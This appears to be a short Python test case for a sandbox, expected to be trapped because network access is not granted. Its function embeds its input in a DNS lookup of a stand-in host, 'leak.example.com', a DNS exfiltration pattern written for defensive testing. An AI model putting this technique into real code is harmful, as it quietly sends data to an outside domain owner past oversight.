# Asks for the address of a name in which the question is written: names are answered by whoever owns them.
# expect: failed/trap
# message: which it is not granted
import socket


def f(n):
    try:
        socket.getaddrinfo(f"{n}.leak.example.com", 80)
        return n * n
    except BaseException:
        return 0
